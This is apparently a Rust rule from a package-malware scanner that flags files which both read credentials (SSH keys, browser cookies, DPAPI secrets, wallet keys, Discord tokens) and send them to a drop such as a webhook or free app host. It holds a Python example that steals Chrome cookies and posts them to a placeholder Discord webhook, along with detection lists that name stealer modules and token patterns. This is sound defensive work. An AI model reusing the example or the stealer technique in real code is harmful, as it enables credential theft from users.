//! # SW-GEN-028: credential theft chain
//!
//! **What it does.** Finds one file that both reaches for credential
//! material — the paths of SW-GEN-004 (SSH keys, cloud and registry
//! tokens, browser password and cookie stores, wallets, Discord token
//! stores), browser-cookie stealing libraries (`browser_cookie3`),
//! Windows DPAPI decryption (`CryptUnprotectData`), Discord token
//! patterns — and names a drop for it: a request catcher, webhook,
//! Telegram bot, paste or file-drop site, tunnel, out-of-band host, or a
//! URL on a raw public IP address (the endpoints of SW-GEN-007), or a
//! free app host or mock API (`herokuapp.com`, `onrender.com`,
//! `mockapi.io`) that no legitimate credential reader posts to. Cloud
//! SDK calls that return resolved credentials (`get_credentials()`) and
//! wallet calls that load a private key or seed phrase (`from_key`,
//! `from_mnemonic`) count as reaching for secrets, as does code that
//! names a private key or seed phrase (`private_key`, `mnemonic`) in a
//! file whose drop is not a raw IP address.
//!
//! **Why is this bad.** Reading a secret and sending it to a place that
//! needs no account is the whole job of an info-stealer. Unlike a single
//! capability, the pair is malicious whenever it runs, so this rule
//! weighs the same when the code sits in a function the user calls (a
//! typosquat's `main()`, a "token checker") as at install or import.
//!
//! **Example.**
//!
//! ```python
//! import browser_cookie3, requests
//! def grab():
//!     cookies = browser_cookie3.chrome(domain_name="game.example.test")
//!     requests.post("https://discord.com/api/webhooks/1/x", json={"c": str(cookies)})
//! ```
//!
//! **False positives.** A tool that manages its own credentials and also
//! posts notifications to a chat webhook in the same file; such code
//! names its own config file, rarely a browser's or another tool's
//! secrets. Different files of one package do not combine.

use std::collections::BTreeMap;

use super::{Context, Emit, Rule, gen004_credential_read as creds, gen007_exfil_endpoint as drops, Indicators};
use crate::guarded::Guarded;
use crate::lang::Lang;
use crate::model::{Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-028",
    title: "credential theft chain",
    source: include_str!("gen028_theft_chain.rs"),
    check,
};

/// Credential kinds of SW-GEN-004 that a string can hit by accident.
const WEAK_KINDS: &[&str] = &["Telegram sessions", "SSH configuration"];

/// Modules that exist to read other programs' secrets.
const STEALER_MODULES: &[(&str, &str)] = &[
    ("browser_cookie3", "browser cookies"),
    ("browsercookie", "browser cookies"),
    ("pycookiecheat", "browser cookies"),
    ("rookiepy", "browser cookies"),
    ("win32crypt.CryptUnprotectData", "DPAPI-protected secrets"),
    ("CryptUnprotectData", "DPAPI-protected secrets"),
];

/// Free app hosts and mock APIs: not drops on their own (projects host
/// demos there), but where a file that reaches for secrets sends them.
const FREE_HOSTS: &[&str] = &[
    "herokuapp.com",
    "onrender.com",
    "mockapi.io",
    "ngrok-free.dev",
    "ngrok.dev",
    "glitch.me",
    "repl.co",
    "replit.dev",
    "pythonanywhere.com",
    "workers.dev",
    "vercel.app",
    "netlify.app",
    "000webhostapp.com",
    "firebaseio.com",
];

pub(crate) static FREE_HOST_MATCHER: Indicators = Indicators::new(|| FREE_HOSTS.to_vec());

/// Calls that hand over a cloud SDK's resolved credentials, or turn a
/// wallet's private key or seed phrase into an account.
const CREDENTIAL_CALLS: &[&str] = &[
    "get_credentials",
    "get_frozen_credentials",
    "from_key",
    "from_mnemonic",
    "from_base58_string",
    "from_secret_key",
    "privateKeyToAccount",
    "fromSecretKey",
    "fromMnemonic",
    "fromPhrase",
];

/// Names of a wallet's private key or seed phrase in code.
pub(crate) static WALLET_KEY: Guarded = Guarded::ascii_case_insensitive(
    &["private_key", "privatekey", "mnemonic", "phrase"],
    r"(?i-u)\b(?:private_?key|mnemonic|seed_?phrase|recovery_?phrase)\b",
);

/// Literal fragments of stealers' Discord token patterns and session
/// cookie names.
pub(crate) static TOKEN_PATTERNS: Indicators = Indicators::new(|| {
    vec![
        r"[\w-]{6}\.[\w-]{27}",
        r"[\w-]{6}\.[\w-]{38}",
        r"mfa\.[\w-]{84}",
        "dQw4w9WgXcQ:",
        ".ROBLOSECURITY",
    ]
});

/// The first-running drop named in each file `wanted` accepts: a
/// request catcher, webhook, paste or file-drop site, tunnel or
/// out-of-band host (SW-GEN-007's endpoints but IP-lookup services), a URL
/// on a raw public IP address, and with `free_hosts` a free app host.
/// Keyed by path: what it is, the stage and line.
pub(crate) fn drops_in<'a>(
    cx: &Context<'a>,
    wanted: impl Fn(&str) -> bool,
    free_hosts: bool,
) -> BTreeMap<&'a str, (String, Stage, u32)> {
    let mut found: BTreeMap<&'a str, Option<(String, Stage, u32)>> = BTreeMap::new();
    if free_hosts {
        for hit in cx.indicator_hits_in(&FREE_HOST_MATCHER, |f| wanted(&f.path)) {
            let host = FREE_HOSTS[hit.pattern];
            keep_earliest(found.entry(&hit.file.path).or_default(), format!("a free app host (`{host}`)"), hit.stage, hit.line);
        }
    }
    for hit in cx.indicator_hits_in(&drops::MATCHER, |f| wanted(&f.path)) {
        let (pattern, what) = drops::ENDPOINTS[hit.pattern];
        if what != "an IP-lookup service" {
            keep_earliest(found.entry(&hit.file.path).or_default(), format!("{what} (`{pattern}`)"), hit.stage, hit.line);
        }
    }
    for (file, _) in cx.code_texts().filter(|(f, _)| wanted(&f.path)) {
        let Some(facts) = &file.facts else { continue };
        for lit in facts.strings.iter().filter(|l| l.value.len() <= 100_000) {
            if let Some(url) = drops::public_ip_url(&lit.value) {
                let slot = found.entry(&file.path).or_default();
                keep_earliest(slot, format!("a raw IP address (`{url}`)"), lit.stage, lit.line);
            }
        }
    }
    found.into_iter().filter_map(|(path, drop)| Some((path, drop?))).collect()
}

fn keep_earliest(slot: &mut Option<(String, Stage, u32)>, what: String, stage: Stage, line: u32) {
    if slot.as_ref().is_none_or(|(_, s, _)| stage < *s) {
        *slot = Some((what, stage, line));
    }
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    // Per file: the first-running secret it reaches for.
    let mut secrets: BTreeMap<&str, Option<(String, Stage, u32)>> = BTreeMap::new();
    for hit in cx.indicator_hits(&creds::MATCHER) {
        let kind = creds::INDICATORS[hit.pattern].1;
        if !WEAK_KINDS.contains(&kind) {
            keep_earliest(secrets.entry(&hit.file.path).or_default(), kind.to_owned(), hit.stage, hit.line);
        }
    }
    for hit in cx.indicator_hits(&TOKEN_PATTERNS) {
        keep_earliest(secrets.entry(&hit.file.path).or_default(), "Discord or session tokens".to_owned(), hit.stage, hit.line);
    }
    for file in cx.code_files().filter(|f| f.lang == Lang::Python) {
        let Some(facts) = &file.facts else { continue };
        let uses = facts
            .calls
            .iter()
            .map(|c| (c.callee.as_str(), c.stage, c.line))
            .chain(facts.imports.iter().map(|i| (i.name.as_str(), i.stage, i.line)));
        for (name, stage, line) in uses {
            let head = name.split('.').next().unwrap_or(name);
            if let Some((_, kind)) = STEALER_MODULES
                .iter()
                .find(|(module, _)| *module == head || *module == name || name.ends_with(&format!(".{module}")))
            {
                keep_earliest(secrets.entry(&file.path).or_default(), (*kind).to_owned(), stage, line);
            }
        }
    }
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        for call in &facts.calls {
            let last = call.callee.rsplit('.').next().unwrap_or("");
            if CREDENTIAL_CALLS.contains(&last) {
                keep_earliest(secrets.entry(&file.path).or_default(), format!("credentials or wallet keys (`{}`)", call.callee), call.stage, call.line);
            }
        }
    }
    // Wallet keys by name: chained only with drops that are not raw IPs
    // (wallet tools talk to their own nodes by address).
    let mut wallet_keys: BTreeMap<&str, (String, Stage, u32)> = BTreeMap::new();
    for (file, text) in cx.code_texts().filter(|(f, _)| matches!(f.lang, Lang::Python | Lang::JavaScript)) {
        if let Some(m) = WALLET_KEY.find(text) {
            let line = crate::lang::lexical::line_of(text.as_bytes(), m.start());
            let stage = super::gen018_decode_exec::stage_at(file, line, None);
            wallet_keys.insert(&file.path, (format!("a wallet key or seed phrase (`{}`)", m.as_str()), stage, line));
        }
    }
    let drops = drops_in(cx, |path| secrets.contains_key(path) || wallet_keys.contains_key(path), true);
    for (file, key) in wallet_keys {
        let ip_drop = drops.get(file).is_some_and(|(what, _, _)| what.starts_with("a raw IP"));
        if !ip_drop {
            let (what, stage, line) = key;
            keep_earliest(secrets.entry(file).or_default(), what, stage, line);
        }
    }
    for (file, secrets) in secrets {
        let (Some((secrets, s_stage, s_line)), Some((drop, d_stage, _))) = (secrets, drops.get(file)) else {
            continue;
        };
        let stage = s_stage.min(*d_stage);
        out.finding_at_any_stage(
            Severity::Critical,
            stage,
            file,
            Some(s_line),
            format!("reaches for {secrets} and names a drop for it: {drop}"),
        );
    }
}
